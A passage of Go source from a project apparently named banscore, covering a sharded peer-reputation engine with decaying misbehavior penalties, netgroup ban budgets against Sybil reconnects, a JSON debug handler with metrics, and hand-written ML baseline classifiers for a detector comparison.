	// benchmarks.
	ShardCount int

	// OnGroupBan, if set, is invoked — outside all engine locks — when a
	// penalty pushes a netgroup over its budget.
	OnGroupBan func(group string, pressure float64)

	// Recorder, if set, receives the engine's durable event stream: one
	// PenaltyRecord per Penalize (emitted under the group mutex, after
	// both the peer and group halves are computed) and one CreditRecord
	// per Credit (emitted under the peer shard lock). See persist.go for
	// the ordering/idempotency contract; implementations must be fast and
	// non-blocking.
	Recorder Recorder
}

func (c *Config) fillDefaults() {
	if c.Clock == nil {
		c.Clock = vclock.System()
	}
	if c.HalfLife == 0 {
		c.HalfLife = DefaultHalfLife
	}
	if c.TrustCap == 0 {
		c.TrustCap = DefaultTrustCap
	}
	if c.PeerContributionCap == 0 {
		c.PeerContributionCap = DefaultPeerContributionCap
	}
	if c.GroupBudget == 0 {
		c.GroupBudget = DefaultGroupBudget
	}
	if c.ProbationFraction == 0 {
		c.ProbationFraction = DefaultProbationFraction
	}
	if c.GroupBanDuration == 0 {
		c.GroupBanDuration = DefaultGroupBanDuration
	}
}

// Score is a peer's reputation view at one instant.
type Score struct {
	// Trust accumulated from useful work (capped).
	Trust float64

	// Misbehavior remaining after exponential decay.
	Misbehavior float64

	// Reputation = Trust − Misbehavior, the ranking the connection
	// manager consumes.
	Reputation float64
}

// PenaltyResult reports what one Penalize call did.
type PenaltyResult struct {
	// Misbehavior is the peer's decayed misbehavior after the hit.
	Misbehavior float64

	// GroupPressure is the netgroup's decayed budget draw-down after the
	// hit.
	GroupPressure float64

	// GroupStatus after the hit.
	GroupStatus GroupStatus

	// GroupBanned is true when THIS call pushed the group over budget.
	GroupBanned bool
}

// peerState is one identity's reputation record. It outlives disconnects on
// purpose: remembering churned identities is what makes the netgroup charge
// stick across serial Sybil reconnects.
type peerState struct {
	group *netgroup

	trust       float64
	mis         float64   // decayed misbehavior as of last
	contributed float64   // decayed charge currently held against group
	last        time.Time // instant mis/contributed are valued at

	penalties uint64
	credits   uint64
}

// netgroup aggregates the budget of one IPv4 /16 or IPv6 /32 prefix.
type netgroup struct {
	mu sync.Mutex

	key         string
	pressure    float64   // decayed sum of capped per-identity charges
	last        time.Time // instant pressure is valued at
	bannedUntil time.Time
	identities  int // distinct peers that ever charged this group
	bans        uint64
}

type peerShard struct {
	mu sync.RWMutex
	m  map[core.PeerID]*peerState
}

type groupShard struct {
	mu sync.Mutex
	m  map[string]*netgroup
}

// Engine is the reputation engine. Safe for concurrent use: peer state and
// netgroup state are independently sharded by identifier hash, and the only
// lock held across both is never taken in the opposite order (peer shard →
// group shard → group).
type Engine struct {
	cfg         Config
	invHalfLife float64 // 1 / half-life, in 1/seconds

	pmask  uint32
	peers  []peerShard
	gmask  uint32
	groups []groupShard

	penalties atomic.Uint64
	credits   atomic.Uint64
	groupBans atomic.Uint64
	rejected  atomic.Uint64
}

// New builds an Engine.
func New(cfg Config) *Engine {
	cfg.fillDefaults()
	n := shardCount(cfg.ShardCount)
	e := &Engine{
		cfg:         cfg,
		invHalfLife: 1 / cfg.HalfLife.Seconds(),
		pmask:       uint32(n - 1),
		peers:       make([]peerShard, n),
		gmask:       uint32(n - 1),
		groups:      make([]groupShard, n),
	}
	for i := range e.peers {
		e.peers[i].m = make(map[core.PeerID]*peerState)
	}
	for i := range e.groups {
		e.groups[i].m = make(map[string]*netgroup)
	}
	return e
}

// Config returns the engine's effective configuration.
func (e *Engine) Config() Config { return e.cfg }

// ShardCount returns how many independently locked shards back each of the
// peer and netgroup maps.
func (e *Engine) ShardCount() int { return len(e.peers) }

// IdentitiesToExhaust returns how many distinct identities must misbehave
// maximally to exhaust one netgroup budget — the engine's Sybil price,
// ⌈GroupBudget / PeerContributionCap⌉.
func (e *Engine) IdentitiesToExhaust() int {
	return int(math.Ceil(e.cfg.GroupBudget / e.cfg.PeerContributionCap))
}

// decay returns v decayed from instant `from` to instant `to` under the
// configured half-life. A zero `from` (fresh state) and a non-advancing
// clock both decay by exactly 1.
func (e *Engine) decay(v float64, from, to time.Time) float64 {
	if v == 0 || from.IsZero() || !to.After(from) {
		return v
	}
	dt := to.Sub(from).Seconds()
	return v * math.Exp2(-dt*e.invHalfLife)
}

func fnv32(s string) uint32 {
	h := uint32(2166136261)
	for i := 0; i < len(s); i++ {
		h ^= uint32(s[i])
		h *= 16777619
	}
	return h
}

func (e *Engine) peerShard(id core.PeerID) *peerShard {
	return &e.peers[fnv32(string(id))&e.pmask]
}

func (e *Engine) groupShard(key string) *groupShard {
	return &e.groups[fnv32(key)&e.gmask]
}

// peer returns the identity's state, creating it (and its netgroup) on
// first sight. Steady-state callers pay a map read under the shard RLock.
func (e *Engine) peer(id core.PeerID) *peerState {
	s := e.peerShard(id)
	s.mu.RLock()
	p := s.m[id]
	s.mu.RUnlock()
	if p != nil {
		return p
	}
	g := e.group(NetgroupKey(id))
	s.mu.Lock()
	if p = s.m[id]; p == nil {
		p = &peerState{group: g}
		s.m[id] = p
	}
	s.mu.Unlock()
	return p
}

// group returns the netgroup record for key, creating it on first sight.
func (e *Engine) group(key string) *netgroup {
	s := e.groupShard(key)
	s.mu.Lock()
	g := s.m[key]
	if g == nil {
		g = &netgroup{key: key}
		s.m[key] = g
	}
	s.mu.Unlock()
	return g
}

// lookupGroup returns the netgroup record for key without creating it.
func (e *Engine) lookupGroup(key string) *netgroup {
	s := e.groupShard(key)
	s.mu.Lock()
	g := s.m[key]
	s.mu.Unlock()
	return g
}

// Penalize charges weight misbehavior points against the identity and its
// netgroup. The caller (the node's misbehave path) invokes it only for rule
// hits the tracker actually applied, so every penalty has a corresponding
// evidence record in the forensics ledger. The per-identity group charge is
// capped: a framed identifier can cost its prefix at most
// PeerContributionCap no matter how many messages are spoofed in its name.
func (e *Engine) Penalize(id core.PeerID, weight int) PenaltyResult {
	now := e.cfg.Clock.Now()
	p := e.peer(id)

	s := e.peerShard(id)
	s.mu.Lock()
	firstCharge := p.penalties == 0
	p.mis = e.decay(p.mis, p.last, now) + float64(weight)
	p.contributed = e.decay(p.contributed, p.last, now)
	p.last = now
	contrib := p.mis
	if contrib > e.cfg.PeerContributionCap {
		contrib = e.cfg.PeerContributionCap
	}
	delta := contrib - p.contributed
	if delta < 0 {
		delta = 0
	}
	p.contributed += delta
	p.penalties++
	seq := p.penalties
	mis := p.mis
	contributed := p.contributed
	g := p.group
	s.mu.Unlock()

	res := PenaltyResult{Misbehavior: mis}
	var justBanned bool
	g.mu.Lock()
	g.pressure = e.decay(g.pressure, g.last, now) + delta
	g.last = now
	if firstCharge {
		g.identities++
	}
	if g.pressure >= e.cfg.GroupBudget && now.After(g.bannedUntil) {
		g.bannedUntil = now.Add(e.cfg.GroupBanDuration)
		g.bans++
		justBanned = true
	}
	res.GroupPressure = g.pressure
	res.GroupStatus = e.groupStatusLocked(g, now)
	res.GroupBanned = justBanned
	if e.cfg.Recorder != nil {
		// Emitted while g.mu is held: the WAL observes group absolutes in
		// exactly the order the group computed them, which is what makes
		// last-write-wins replay converge.
		e.cfg.Recorder.RecordPenalty(PenaltyRecord{
			ID:          id,
			Seq:         seq,
			At:          now,
			Mis:         mis,
			Contributed: contributed,
			Group:       g.key,
			Pressure:    g.pressure,
			BannedUntil: g.bannedUntil,
			Identities:  g.identities,
			Bans:        g.bans,
		})
	}
	g.mu.Unlock()

	e.penalties.Add(1)
	if justBanned {
		e.groupBans.Add(1)
		if e.cfg.OnGroupBan != nil {
			e.cfg.OnGroupBan(g.key, res.GroupPressure)
		}
	}
	return res
}

// Credit raises the identity's trust for one unit of useful work
// (CreditBlock, CreditTx), capped at TrustCap. Trust does not decay: the
// engine forgets grudges, not service.
func (e *Engine) Credit(id core.PeerID, weight int) float64 {
	p := e.peer(id)
	s := e.peerShard(id)
	s.mu.Lock()
	p.trust += float64(weight)
	if p.trust > e.cfg.TrustCap {
		p.trust = e.cfg.TrustCap
	}
	p.credits++
	t := p.trust
	if e.cfg.Recorder != nil {
		e.cfg.Recorder.RecordCredit(CreditRecord{ID: id, Seq: p.credits, Trust: t})
	}
	s.mu.Unlock()
	e.credits.Add(1)
	return t
}

// Score returns the identity's reputation view at the current clock
// reading. Unknown identities score zero across the board.
func (e *Engine) Score(id core.PeerID) Score {
	s := e.peerShard(id)
	s.mu.RLock()
	p := s.m[id]
	if p == nil {
		s.mu.RUnlock()
		return Score{}
	}
	now := e.cfg.Clock.Now()
	mis := e.decay(p.mis, p.last, now)
	trust := p.trust
	s.mu.RUnlock()
	return Score{Trust: trust, Misbehavior: mis, Reputation: trust - mis}
}

// GroupOf returns the identity's netgroup key (cached when the identity is
// known, derived otherwise).
func (e *Engine) GroupOf(id core.PeerID) string {
	s := e.peerShard(id)
	s.mu.RLock()
	p := s.m[id]
	s.mu.RUnlock()
	if p != nil {
		return p.group.key
	}
	return NetgroupKey(id)
}

// groupStatusLocked classifies g; g.mu must be held and g.pressure valued
// at now.
func (e *Engine) groupStatusLocked(g *netgroup, now time.Time) GroupStatus {
	switch {
	case now.Before(g.bannedUntil):
		return GroupBanned
	case g.pressure >= e.cfg.ProbationFraction*e.cfg.GroupBudget:
		return GroupProbation
	}
	return GroupHealthy
}

// GroupPressure returns the netgroup's decayed budget draw-down and status.
// Unknown groups are healthy at zero.
func (e *Engine) GroupPressure(key string) (float64, GroupStatus) {
	g := e.lookupGroup(key)
	if g == nil {
		return 0, GroupHealthy
	}
	now := e.cfg.Clock.Now()
	g.mu.Lock()
	pressure := e.decay(g.pressure, g.last, now)
	g.pressure = pressure
	g.last = now
	status := e.groupStatusLocked(g, now)
	g.mu.Unlock()
	return pressure, status
}

// Admission is the connection manager's accept-time gate: the verdict for a
// new connection from id, judged by its netgroup's standing. The hot path —
// a known identity in a healthy group — is a shard RLock, a group lock, and
// float math; it allocates nothing.
func (e *Engine) Admission(id core.PeerID) Verdict {
	s := e.peerShard(id)
	s.mu.RLock()
	p := s.m[id]
	s.mu.RUnlock()
	var g *netgroup
	if p != nil {
		g = p.group
	} else if g = e.lookupGroup(NetgroupKey(id)); g == nil {
		return VerdictAdmit
	}
	now := e.cfg.Clock.Now()
	g.mu.Lock()
	g.pressure = e.decay(g.pressure, g.last, now)
	g.last = now
	status := e.groupStatusLocked(g, now)
	g.mu.Unlock()
	switch status {
	case GroupBanned:
		e.rejected.Add(1)
		return VerdictReject
	case GroupProbation:
		return VerdictProbation
	}
	return VerdictAdmit
}

// Forget is intentionally absent: reputation state must survive disconnects
// or serial Sybil identities would reset their netgroup charge for free.
// PruneBelow is the sanctioned way to bound memory.

// PruneBelow drops identities whose decayed misbehavior AND trust are both
// below eps, plus netgroups that are unbanned, below eps pressure, and no
// longer referenced by any surviving identity (a referenced group must stay
// in the map or the survivor's cached pointer would diverge from future
// lookups). It returns (peers, groups) pruned. Operators run it
// periodically; attackers gain nothing, since any state worth remembering
// is above eps by construction.
func (e *Engine) PruneBelow(eps float64) (int, int) {
	now := e.cfg.Clock.Now()
	peersPruned := 0
	referenced := make(map[string]struct{})
	for i := range e.peers {
		s := &e.peers[i]
		s.mu.Lock()
		for id, p := range s.m {
			if e.decay(p.mis, p.last, now) < eps && p.trust < eps {
				delete(s.m, id)
				peersPruned++
				continue
			}
			referenced[p.group.key] = struct{}{}
		}
		s.mu.Unlock()
	}
	groupsPruned := 0
	for i := range e.groups {
		s := &e.groups[i]
		s.mu.Lock()
		for key, g := range s.m {
			if _, live := referenced[key]; live {
				continue
			}
			g.mu.Lock()
			dead := now.After(g.bannedUntil) && e.decay(g.pressure, g.last, now) < eps
			g.mu.Unlock()
			if dead {
				delete(s.m, key)
				groupsPruned++
			}
		}
		s.mu.Unlock()
	}
	return peersPruned, groupsPruned
}

// Totals returns the engine's lifetime counters: penalties applied, trust
// credits granted, collective group bans, and admissions rejected.
func (e *Engine) Totals() (penalties, credits, groupBans, rejected uint64) {
	return e.penalties.Load(), e.credits.Load(), e.groupBans.Load(), e.rejected.Load()
}

// TrackedPeers returns how many identities currently hold reputation state.
func (e *Engine) TrackedPeers() int {
	n := 0
	for i := range e.peers {
		s := &e.peers[i]
		s.mu.RLock()
		n += len(s.m)
		s.mu.RUnlock()
	}
	return n
}

// TrackedGroups returns how many netgroups currently hold state, plus how
// many of them are in probation and banned at the current clock reading.
func (e *Engine) TrackedGroups() (total, probation, banned int) {
	now := e.cfg.Clock.Now()
	for i := range e.groups {
		s := &e.groups[i]
		s.mu.Lock()
		for _, g := range s.m {
			g.mu.Lock()
			g.pressure = e.decay(g.pressure, g.last, now)
			g.last = now
			switch e.groupStatusLocked(g, now) {
			case GroupBanned:
				banned++
			case GroupProbation:
				probation++
			}
			g.mu.Unlock()
			total++
		}
		s.mu.Unlock()
	}
	return total, probation, banned
}

// shardCount resolves the configured shard count: the requested value
// rounded up to a power of two, or a GOMAXPROCS-scaled default clamped to
// [8, 256] (the same envelope as the core tracker's shards).
func shardCount(requested int) int {
	n := requested
	if n <= 0 {
		n = runtime.GOMAXPROCS(0) * 4
	}
	if n < 8 {
		n = 8
	}
	if n > 256 {
		n = 256
	}
	c := 1
	for c < n {
		c <<= 1
	}
	return c
}
