package reputation

import (
	"encoding/json"
	"net/http"
	"net/url"
	"sort"
	"strings"
	"time"

	"banscore/internal/core"
	"banscore/internal/telemetry"
)

// PeerSnapshot is one identity's reputation state as served by
// /debug/reputation.
type PeerSnapshot struct {
	Peer        core.PeerID `json:"peer"`
	Group       string      `json:"group"`
	Trust       float64     `json:"trust"`
	Misbehavior float64     `json:"misbehavior"`
	Reputation  float64     `json:"reputation"`
	Penalties   uint64      `json:"penalties"`
	Credits     uint64      `json:"credits"`
}

// GroupSnapshot is one netgroup's state as served by /debug/reputation.
type GroupSnapshot struct {
	Group       string    `json:"group"`
	Pressure    float64   `json:"pressure"`
	Budget      float64   `json:"budget"`
	Status      string    `json:"status"`
	Identities  int       `json:"identities"`
	Bans        uint64    `json:"bans"`
	BannedUntil time.Time `json:"banned_until,omitempty"`
}

// Snapshot is the full /debug/reputation document.
type Snapshot struct {
	Peers     []PeerSnapshot  `json:"peers"`
	Groups    []GroupSnapshot `json:"groups"`
	Penalties uint64          `json:"penalties_total"`
	Credits   uint64          `json:"credits_total"`
	GroupBans uint64          `json:"group_bans_total"`
	Rejected  uint64          `json:"admissions_rejected_total"`
}

// Snapshot captures every identity and netgroup at the current clock
// reading, decayed and sorted (peers by ascending reputation — eviction
// order — and groups by descending pressure). Diagnostic path: it allocates
// freely and takes each shard lock in turn.
func (e *Engine) Snapshot() Snapshot {
	now := e.cfg.Clock.Now()
	snap := Snapshot{
		Peers:  make([]PeerSnapshot, 0, 16),
		Groups: make([]GroupSnapshot, 0, 8),
	}
	for i := range e.peers {
		s := &e.peers[i]
		s.mu.RLock()
		for id, p := range s.m {
			mis := e.decay(p.mis, p.last, now)
			snap.Peers = append(snap.Peers, PeerSnapshot{
				Peer:        id,
				Group:       p.group.key,
				Trust:       p.trust,
				Misbehavior: mis,
				Reputation:  p.trust - mis,
				Penalties:   p.penalties,
				Credits:     p.credits,
			})
		}
		s.mu.RUnlock()
	}
	for i := range e.groups {
		s := &e.groups[i]
		s.mu.Lock()
		for _, g := range s.m {
			g.mu.Lock()
			g.pressure = e.decay(g.pressure, g.last, now)
			g.last = now
			gs := GroupSnapshot{
				Group:      g.key,
				Pressure:   g.pressure,
				Budget:     e.cfg.GroupBudget,
				Status:     e.groupStatusLocked(g, now).String(),
				Identities: g.identities,
				Bans:       g.bans,
			}
			if now.Before(g.bannedUntil) {
				gs.BannedUntil = g.bannedUntil
			}
			g.mu.Unlock()
			snap.Groups = append(snap.Groups, gs)
		}
		s.mu.Unlock()
	}
	sort.Slice(snap.Peers, func(i, j int) bool {
		if snap.Peers[i].Reputation != snap.Peers[j].Reputation {
			return snap.Peers[i].Reputation < snap.Peers[j].Reputation
		}
		return snap.Peers[i].Peer < snap.Peers[j].Peer
	})
	sort.Slice(snap.Groups, func(i, j int) bool {
		if snap.Groups[i].Pressure != snap.Groups[j].Pressure {
			return snap.Groups[i].Pressure > snap.Groups[j].Pressure
		}
		return snap.Groups[i].Group < snap.Groups[j].Group
	})
	snap.Penalties, snap.Credits, snap.GroupBans, snap.Rejected = e.Totals()
	return snap
}

// peerDoc is the /debug/reputation/<peer> document.
type peerDoc struct {
	PeerSnapshot
	GroupPressure float64 `json:"group_pressure"`
	GroupStatus   string  `json:"group_status"`
}

// Handler serves the engine over HTTP. Mounted at /debug/reputation:
//
//	/debug/reputation          — full snapshot: peers (eviction order),
//	                             netgroups (pressure order), totals
//	/debug/reputation/<peer>   — one identity plus its netgroup standing
func (e *Engine) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		rest := strings.TrimPrefix(r.URL.Path, "/debug/reputation")
		rest = strings.Trim(rest, "/")
		if rest == "" {
			_ = json.NewEncoder(w).Encode(e.Snapshot())
			return
		}
		// Peer identifiers contain ":" and, for IPv6, "[]" — clients that
		// escape the path segment must still resolve the same peer.
		if unescaped, err := url.PathUnescape(rest); err == nil {
			rest = unescaped
		}
		id := core.PeerID(rest)
		s := e.peerShard(id)
		s.mu.RLock()
		p := s.m[id]
		s.mu.RUnlock()
		if p == nil {
			w.WriteHeader(http.StatusNotFound)
			_ = json.NewEncoder(w).Encode(map[string]string{"error": "no reputation state for peer " + rest})
			return
		}
		now := e.cfg.Clock.Now()
		s.mu.RLock()
		mis := e.decay(p.mis, p.last, now)
		doc := peerDoc{PeerSnapshot: PeerSnapshot{
			Peer:        id,
			Group:       p.group.key,
			Trust:       p.trust,
			Misbehavior: mis,
			Reputation:  p.trust - mis,
			Penalties:   p.penalties,
			Credits:     p.credits,
		}}
		s.mu.RUnlock()
		pressure, status := e.GroupPressure(doc.Group)
		doc.GroupPressure = pressure
		doc.GroupStatus = status.String()
		_ = json.NewEncoder(w).Encode(doc)
	})
}

// Instrument registers the engine's metrics on reg. Gauges are pull-style:
// they walk the shards at scrape time, so a scrape observes decayed values
// at its own instant.
func (e *Engine) Instrument(reg *telemetry.Registry) {
	reg.Describe("reputation_peers", "Identities currently holding reputation state.")
	reg.Describe("reputation_netgroups", "Netgroups currently holding reputation state, by status.")
	reg.Describe("reputation_penalties_total", "Misbehavior penalties charged through the reputation engine.")
	reg.Describe("reputation_credits_total", "Useful-work trust credits granted.")
	reg.Describe("reputation_group_bans_total", "Collective netgroup bans issued.")
	reg.Describe("reputation_admissions_rejected_total", "Inbound admissions rejected because the netgroup is banned.")

	reg.GaugeFunc("reputation_peers", func() float64 { return float64(e.TrackedPeers()) })
	reg.GaugeFunc("reputation_netgroups", func() float64 {
		total, _, _ := e.TrackedGroups()
		return float64(total)
	}, telemetry.L("status", "total"))
	reg.GaugeFunc("reputation_netgroups", func() float64 {
		_, probation, _ := e.TrackedGroups()
		return float64(probation)
	}, telemetry.L("status", "probation"))
	reg.GaugeFunc("reputation_netgroups", func() float64 {
		_, _, banned := e.TrackedGroups()
		return float64(banned)
	}, telemetry.L("status", "banned"))
	reg.CounterFunc("reputation_penalties_total", func() float64 {
		p, _, _, _ := e.Totals()
		return float64(p)
	})
	reg.CounterFunc("reputation_credits_total", func() float64 {
		_, c, _, _ := e.Totals()
		return float64(c)
	})
	reg.CounterFunc("reputation_group_bans_total", func() float64 {
		_, _, b, _ := e.Totals()
		return float64(b)
	})
	reg.CounterFunc("reputation_admissions_rejected_total", func() float64 {
		_, _, _, r := e.Totals()
		return float64(r)
	})
}
