// Package mlbase implements the seven machine-learning baselines the paper
// compares its statistical detector against in Fig. 11 — Logistic
// Regression, Gradient Boosting, Random Forest, SVM, Deep Neural Network,
// One-Class SVM, and AutoEncoder — from scratch on the standard library.
// They exist for the latency comparison (training/testing time) and for
// sanity-checking relative accuracy; they are deliberately straightforward
// reference implementations, not tuned production learners.
package mlbase

import (
	"errors"
	"math"
	"math/rand"
	"time"

	"banscore/internal/detect"
)

// ErrNotTrained is returned by Predict before Train.
var ErrNotTrained = errors.New("mlbase: model is not trained")

// ErrBadTrainingSet is returned for empty or inconsistent training input.
var ErrBadTrainingSet = errors.New("mlbase: bad training set")

// Model is a binary anomaly classifier over window feature vectors.
// Supervised models use labels; one-class models (OC-SVM, AutoEncoder)
// ignore the anomalous examples and fit the normal class.
type Model interface {
	// Name of the algorithm as shown in Fig. 11.
	Name() string

	// Train fits the model. y holds 0 (normal) / 1 (anomalous).
	Train(x [][]float64, y []float64) error

	// Predict returns a label per row.
	Predict(x [][]float64) ([]float64, error)
}

// Features converts a detection window into the model feature vector: the
// reconnection rate c, the message rate n, and the normalized message-count
// distribution over the fixed command order — the same information the
// statistical engine consumes, for a like-for-like Fig. 11 comparison.
func Features(w detect.WindowStats, commands []string) []float64 {
	v := make([]float64, 0, 2+len(commands))
	v = append(v, w.ReconnectRatePerMinute(), w.RatePerMinute()/1000.0)
	total := 0.0
	for _, cmd := range commands {
		total += w.Counts[cmd]
	}
	for _, cmd := range commands {
		if total > 0 {
			v = append(v, w.Counts[cmd]/total)
		} else {
			v = append(v, 0)
		}
	}
	return v
}

// Dataset builds the feature matrix of a window set.
func Dataset(windows []detect.WindowStats, commands []string) [][]float64 {
	x := make([][]float64, len(windows))
	for i, w := range windows {
		x[i] = Features(w, commands)
	}
	return x
}

// TimedTrain trains the model and returns the training latency.
func TimedTrain(m Model, x [][]float64, y []float64) (time.Duration, error) {
	start := time.Now()
	err := m.Train(x, y)
	return time.Since(start), err
}

// TimedPredict predicts and returns the testing latency.
func TimedPredict(m Model, x [][]float64) ([]float64, time.Duration, error) {
	start := time.Now()
	out, err := m.Predict(x)
	return out, time.Since(start), err
}

// Accuracy scores predictions against labels.
func Accuracy(pred, y []float64) float64 {
	if len(pred) == 0 || len(pred) != len(y) {
		return 0
	}
	correct := 0
	for i := range pred {
		if (pred[i] >= 0.5) == (y[i] >= 0.5) {
			correct++
		}
	}
	return float64(correct) / float64(len(pred))
}

func checkTrainingSet(x [][]float64, y []float64, needLabels bool) error {
	if len(x) == 0 {
		return ErrBadTrainingSet
	}
	dim := len(x[0])
	if dim == 0 {
		return ErrBadTrainingSet
	}
	for _, row := range x {
		if len(row) != dim {
			return ErrBadTrainingSet
		}
	}
	if needLabels && len(y) != len(x) {
		return ErrBadTrainingSet
	}
	return nil
}

func dot(a, b []float64) float64 {
	s := 0.0
	for i := range a {
		s += a[i] * b[i]
	}
	return s
}

func sigmoid(z float64) float64 { return 1 / (1 + math.Exp(-z)) }

func newRNG(seed int64) *rand.Rand { return rand.New(rand.NewSource(seed)) }
