package mlbase

import "math/rand"

// stump is a depth-1 regressor used by gradient boosting.
type stump struct {
	feature   int
	threshold float64
	left      float64
	right     float64
}

func (s stump) predict(row []float64) float64 {
	if row[s.feature] <= s.threshold {
		return s.left
	}
	return s.right
}

// fitStump finds the split minimizing squared error against residuals.
func fitStump(x [][]float64, residuals []float64) stump {
	best := stump{left: mean(residuals), right: mean(residuals)}
	bestErr := sqErr(residuals, best.left)
	dim := len(x[0])
	for f := 0; f < dim; f++ {
		for _, row := range x {
			thr := row[f]
			var lSum, rSum float64
			var lN, rN int
			for i, other := range x {
				if other[f] <= thr {
					lSum += residuals[i]
					lN++
				} else {
					rSum += residuals[i]
					rN++
				}
			}
			if lN == 0 || rN == 0 {
				continue
			}
			lMean, rMean := lSum/float64(lN), rSum/float64(rN)
			e := 0.0
			for i, other := range x {
				var p float64
				if other[f] <= thr {
					p = lMean
				} else {
					p = rMean
				}
				d := residuals[i] - p
				e += d * d
			}
			if e < bestErr {
				bestErr = e
				best = stump{feature: f, threshold: thr, left: lMean, right: rMean}
			}
		}
	}
	return best
}

func mean(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	s := 0.0
	for _, x := range xs {
		s += x
	}
	return s / float64(len(xs))
}

func sqErr(xs []float64, pred float64) float64 {
	e := 0.0
	for _, x := range xs {
		d := x - pred
		e += d * d
	}
	return e
}

// GradientBoosting is a least-squares gradient-boosted ensemble of stumps.
type GradientBoosting struct {
	// Rounds of boosting (default 50).
	Rounds int
	// LearningRate shrinkage (default 0.3).
	LearningRate float64

	base    float64
	stumps  []stump
	trained bool
}

var _ Model = (*GradientBoosting)(nil)

// Name implements Model.
func (m *GradientBoosting) Name() string { return "GB" }

// Train implements Model.
func (m *GradientBoosting) Train(x [][]float64, y []float64) error {
	if err := checkTrainingSet(x, y, true); err != nil {
		return err
	}
	rounds := m.Rounds
	if rounds == 0 {
		rounds = 50
	}
	lr := m.LearningRate
	if lr == 0 {
		lr = 0.3
	}
	m.base = mean(y)
	pred := make([]float64, len(y))
	for i := range pred {
		pred[i] = m.base
	}
	m.stumps = nil
	residuals := make([]float64, len(y))
	for r := 0; r < rounds; r++ {
		for i := range residuals {
			residuals[i] = y[i] - pred[i]
		}
		s := fitStump(x, residuals)
		s.left *= lr
		s.right *= lr
		m.stumps = append(m.stumps, s)
		for i, row := range x {
			pred[i] += s.predict(row)
		}
	}
	m.trained = true
	return nil
}

// Predict implements Model.
func (m *GradientBoosting) Predict(x [][]float64) ([]float64, error) {
	if !m.trained {
		return nil, ErrNotTrained
	}
	out := make([]float64, len(x))
	for i, row := range x {
		score := m.base
		for _, s := range m.stumps {
			score += s.predict(row)
		}
		if score >= 0.5 {
			out[i] = 1
		}
	}
	return out, nil
}

// treeNode is a node of a CART classification tree.
type treeNode struct {
	leaf      bool
	label     float64
	feature   int
	threshold float64
	left      *treeNode
	right     *treeNode
}

func (n *treeNode) predict(row []float64) float64 {
	for !n.leaf {
		if row[n.feature] <= n.threshold {
			n = n.left
		} else {
			n = n.right
		}
	}
	return n.label
}

// buildTree grows a gini-split tree on a bootstrap sample with random
// feature subsets at each node.
func buildTree(x [][]float64, y []float64, idx []int, depth, maxDepth, mtry int, rng *rand.Rand) *treeNode {
	ones := 0
	for _, i := range idx {
		if y[i] >= 0.5 {
			ones++
		}
	}
	label := 0.0
	if 2*ones >= len(idx) {
		label = 1
	}
	if depth >= maxDepth || ones == 0 || ones == len(idx) || len(idx) < 4 {
		return &treeNode{leaf: true, label: label}
	}

	dim := len(x[0])
	bestGini := 2.0
	bestFeature, bestThr := -1, 0.0
	for t := 0; t < mtry; t++ {
		f := rng.Intn(dim)
		thr := x[idx[rng.Intn(len(idx))]][f]
		var lN, lOnes, rN, rOnes int
		for _, i := range idx {
			if x[i][f] <= thr {
				lN++
				if y[i] >= 0.5 {
					lOnes++
				}
			} else {
				rN++
				if y[i] >= 0.5 {
					rOnes++
				}
			}
		}
		if lN == 0 || rN == 0 {
			continue
		}
		g := weightedGini(lN, lOnes, rN, rOnes)
		if g < bestGini {
			bestGini = g
			bestFeature, bestThr = f, thr
		}
	}
	if bestFeature < 0 {
		return &treeNode{leaf: true, label: label}
	}
	var leftIdx, rightIdx []int
	for _, i := range idx {
		if x[i][bestFeature] <= bestThr {
			leftIdx = append(leftIdx, i)
		} else {
			rightIdx = append(rightIdx, i)
		}
	}
	return &treeNode{
		feature:   bestFeature,
		threshold: bestThr,
		left:      buildTree(x, y, leftIdx, depth+1, maxDepth, mtry, rng),
		right:     buildTree(x, y, rightIdx, depth+1, maxDepth, mtry, rng),
	}
}

func weightedGini(lN, lOnes, rN, rOnes int) float64 {
	gini := func(n, ones int) float64 {
		if n == 0 {
			return 0
		}
		p := float64(ones) / float64(n)
		return 2 * p * (1 - p)
	}
	total := float64(lN + rN)
	return float64(lN)/total*gini(lN, lOnes) + float64(rN)/total*gini(rN, rOnes)
}

// RandomForest is a bagged ensemble of CART trees.
type RandomForest struct {
	// Trees in the ensemble (default 100).
	Trees int
	// MaxDepth per tree (default 8).
	MaxDepth int

	forest  []*treeNode
	trained bool
}

var _ Model = (*RandomForest)(nil)

// Name implements Model.
func (m *RandomForest) Name() string { return "RF" }

// Train implements Model.
func (m *RandomForest) Train(x [][]float64, y []float64) error {
	if err := checkTrainingSet(x, y, true); err != nil {
		return err
	}
	trees := m.Trees
	if trees == 0 {
		trees = 100
	}
	maxDepth := m.MaxDepth
	if maxDepth == 0 {
		maxDepth = 8
	}
	mtry := len(x[0])
	rng := newRNG(2)
	m.forest = make([]*treeNode, 0, trees)
	for t := 0; t < trees; t++ {
		idx := make([]int, len(x))
		for i := range idx {
			idx[i] = rng.Intn(len(x))
		}
		m.forest = append(m.forest, buildTree(x, y, idx, 0, maxDepth, mtry, rng))
	}
	m.trained = true
	return nil
}

// Predict implements Model (majority vote).
func (m *RandomForest) Predict(x [][]float64) ([]float64, error) {
	if !m.trained {
		return nil, ErrNotTrained
	}
	out := make([]float64, len(x))
	for i, row := range x {
		votes := 0.0
		for _, tree := range m.forest {
			votes += tree.predict(row)
		}
		if votes*2 >= float64(len(m.forest)) {
			out[i] = 1
		}
	}
	return out, nil
}
