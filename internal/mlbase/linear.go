package mlbase

import "math"

// LogisticRegression is a binary classifier fit by full-batch gradient
// descent on the cross-entropy loss.
type LogisticRegression struct {
	// Epochs of gradient descent (default 500).
	Epochs int
	// LearningRate of the updates (default 0.1).
	LearningRate float64

	weights []float64
	bias    float64
	trained bool
}

var _ Model = (*LogisticRegression)(nil)

// Name implements Model.
func (m *LogisticRegression) Name() string { return "LR" }

// Train implements Model.
func (m *LogisticRegression) Train(x [][]float64, y []float64) error {
	if err := checkTrainingSet(x, y, true); err != nil {
		return err
	}
	epochs := m.Epochs
	if epochs == 0 {
		epochs = 500
	}
	lr := m.LearningRate
	if lr == 0 {
		lr = 0.1
	}
	dim := len(x[0])
	m.weights = make([]float64, dim)
	m.bias = 0
	grad := make([]float64, dim)
	n := float64(len(x))
	for e := 0; e < epochs; e++ {
		for i := range grad {
			grad[i] = 0
		}
		gradB := 0.0
		for i, row := range x {
			err := sigmoid(dot(m.weights, row)+m.bias) - y[i]
			for j, v := range row {
				grad[j] += err * v
			}
			gradB += err
		}
